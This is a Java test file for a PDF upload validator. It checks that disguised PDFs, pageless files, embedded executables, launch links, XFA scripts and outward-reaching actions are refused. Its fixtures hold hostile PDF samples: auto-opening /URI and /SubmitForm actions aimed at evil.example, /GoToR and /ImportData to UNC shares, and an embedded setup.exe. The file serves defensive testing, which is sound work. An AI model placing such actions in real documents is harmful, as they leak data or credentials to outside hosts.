package org.youguan.documents;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.Test;
import org.youguan.kernel.FieldError;
import org.youguan.kernel.InvalidValueException;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

/**
 * A PDF attachment is checked as a document, not by its first bytes: a file that only starts with {@code %PDF-}, a
 * document without pages, one that embeds a file (an .exe in the /EmbeddedFiles tree, a file-attachment annotation) or
 * whose page carries a /Launch link is refused on its field, naming the rule; a real one-page PDF is kept.
 */
class PdfFilesTest {

	/** The page tree of a one-page document, for a catalog {@code 1 0 obj} whose /Pages is {@code 2 0 R}. */
	static final String PAGES = "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
			+ "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj";

	static FieldError refusal(byte[] content) {
		InvalidValueException ex = (InvalidValueException) catchThrowable(() -> new UploadedFile("营业执照.pdf", content).checkedContentType("businessLicence", "营业执照",
					PdfScriptsTest.LIMIT));
		assertThat(ex).as("refused").isNotNull();
		assertThat(ex.fieldErrors()).hasSize(1);
		assertThat(ex.fieldErrors().get(0).field()).isEqualTo("businessLicence");
		assertThat(ex.fieldErrors().get(0).message()).contains("营业执照");
		return ex.fieldErrors().get(0);
	}

	static byte[] save(PDDocument document) throws Exception {
		try (document; ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			document.save(out);
			return out.toByteArray();
		}
	}

	@Test
	void aFileThatOnlyStartsLikeAPdfIsRefused() {
		assertThat(refusal("%PDF-1.4\n%%EOF\n".getBytes(StandardCharsets.US_ASCII)).rule()).isEqualTo("pdf");
		assertThat(refusal("%PDF-MZ\u0090\u0000 an executable".getBytes(StandardCharsets.ISO_8859_1)).rule()).isEqualTo("pdf");
	}

	@Test
	void aDocumentWithoutPagesIsRefused() {
		byte[] empty = PdfScriptsTest.pdf("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj");
		FieldError error = refusal(empty);
		assertThat(error.rule()).isEqualTo("pdf-pages");
		assertThat(error.message()).contains("没有任何页面");
	}

	@Test
	void anEmbeddedFileIsRefused() throws Exception {
		PDDocument document = Loader.loadPDF(PdfFiles.blankPage());
		PDComplexFileSpecification spec = new PDComplexFileSpecification();
		spec.setFile("setup.exe");
		spec.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] { 'M', 'Z' })));
		PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
		tree.setNames(Map.of("setup.exe", spec));
		PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
		names.setEmbeddedFiles(tree);
		document.getDocumentCatalog().setNames(names);
		FieldError error = refusal(save(document));
		assertThat(error.rule()).isEqualTo("pdf-embedded");
		assertThat(error.message()).contains("内嵌了其他文件");
	}

	@Test
	void aFileAttachmentAnnotationIsRefused() throws Exception {
		PDDocument document = Loader.loadPDF(PdfFiles.blankPage());
		document.getPage(0).setAnnotations(List.of(new PDAnnotationFileAttachment()));
		assertThat(refusal(save(document)).rule()).isEqualTo("pdf-embedded");
	}

	@Test
	void aLinkThatLaunchesAProgramIsRefused() throws Exception {
		PDDocument document = Loader.loadPDF(PdfFiles.blankPage());
		PDAnnotationLink link = new PDAnnotationLink();
		PDActionLaunch launch = new PDActionLaunch();
		launch.setFile(new PDComplexFileSpecification());
		link.setAction(launch);
		document.getPage(0).setAnnotations(List.of(link));
		assertThat(refusal(save(document)).rule()).isEqualTo("pdf-script");
	}

	/** A one-page document whose catalog has {@code catalogEntries} and whose page has {@code pageEntries}. */
	static byte[] document(String catalogEntries, String pageEntries, String... objects) {
		return PdfScriptsTest.pdf("1 0 obj<</Type/Catalog/Pages 2 0 R" + catalogEntries + ">>endobj\n"
				+ "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
				+ "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + pageEntries + ">>endobj\n" + String.join("\n", objects));
	}

	@Test
	void anXfaFormIsRefusedAsAScript() {
		FieldError error = refusal(document("/AcroForm<</Fields[]/XFA 4 0 R>>", "",
				"4 0 obj<</Length 60>>stream\n<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>\nendstream\nendobj"));
		assertThat(error.rule()).isEqualTo("pdf-script");
		assertThat(error.message()).contains("含有脚本");
	}

	/**
	 * Actions that open, fetch or send outside the file are refused under {@code pdf-action} wherever they sit: the
	 * catalog's /OpenAction and /AA, a page's /AA, a link's /A, a form field's /AA, an outline item, a /Next chain, a
	 * name tree — a remote /GoToR to a UNC path, /URI, /SubmitForm, /ImportData, a /Thread in another file.
	 */
	@Test
	void actionsThatReachOutsideTheFileAreRefusedWhereverTheySit() {
		String goToR = "<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>";
		List<byte[]> files = List.of(document("/OpenAction" + goToR, ""),
				document("/AA<</WC<</S/URI/URI(http://evil.example/p)>>>>", ""),
				document("", "/AA<</O<</S/SubmitForm/F<</FS/URL/F(http://evil.example/s)>>>>>>"),
				document("", "/Annots[4 0 R]", "4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/ImportData/F(\\\\\\\\evil\\\\x.fdf)>>>>endobj"),
				document("/AcroForm<</Fields[4 0 R]>>", "", "4 0 obj<</FT/Tx/T(a)/AA<</K<</S/URI/URI(http://evil.example)>>>>>>endobj"),
				document("/Outlines 4 0 R", "", "4 0 obj<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>endobj",
						"5 0 obj<</Title(x)/Parent 4 0 R/A<</S/GoTo/D[3 0 R/Fit]/Next " + goToR + ">>>>endobj"),
				document("/Names<</Dests<</Names[(a) " + goToR + "]>>>>", ""),
				document("/OpenAction<</S/Thread/F(\\\\\\\\evil\\\\x.pdf)/D 0>>", ""),
				document("/OpenAction<</S/URI/URI(http://evil.example/o)>>", ""),
				// a web address opened without a click after another action: /Next as one action, as an array, deeper
				document("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example/n)>>>>", ""),
				document("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>> 4 0 R]>>", "",
						"4 0 obj<</S/URI/URI(http://evil.example/a)>>endobj"),
				document("", "/AA<</O<</S/Hide/T(x)/Next<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example/d)>>>>>>>>"));
		for (byte[] file : files) {
			FieldError error = refusal(file);
			assertThat(error.rule()).as(new String(file, StandardCharsets.ISO_8859_1)).isEqualTo("pdf-action");
			assertThat(error.message()).contains("访问外部文件、网址");
		}
	}

	/**
	 * Links a person clicks are kept: within the document, and a web address as Word writes every hyperlink of a
	 * document saved as PDF (the viewer asks before following it); only an address opened without a click is refused.
	 */
	@Test
	void aLinkWithinTheDocumentOrToAWebAddressIsKept() {
		byte[] linked = document("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/Outlines 4 0 R", "/Annots[6 0 R 7 0 R]",
				"4 0 obj<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>endobj",
				"5 0 obj<</Title(x)/Parent 4 0 R/Dest[3 0 R/Fit]>>endobj",
				"6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/XYZ 0 842 0]>>>>endobj",
				"7 0 obj<</Type/Annot/Subtype/Link/Rect[9 9 19 19]/A<</S/URI/URI(https://www.spb.gov.cn/)>>>>endobj");
		assertThat(new UploadedFile("扫描件.pdf", linked).checkedContentType("file", "附件", PdfScriptsTest.LIMIT))
			.isEqualTo("application/pdf");
	}

	@Test
	void aRealOnePagePdfIsKept() {
		assertThat(new UploadedFile("扫描件.pdf", PdfFiles.blankPage()).checkedContentType("file", "附件", PdfScriptsTest.LIMIT))
			.isEqualTo("application/pdf");
		assertThat(new UploadedFile("扫描件.pdf", PdfScriptsTest.pdf("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" + PAGES))
			.checkedContentType("file", "附件", PdfScriptsTest.LIMIT)).isEqualTo("application/pdf");
		assertThatThrownBy(() -> new UploadedFile("a.pdf", new byte[] { '%', 'P', 'D', 'F', '-' })
			.checkedContentType("file", "附件", PdfScriptsTest.LIMIT)).isInstanceOf(InvalidValueException.class);
	}
}
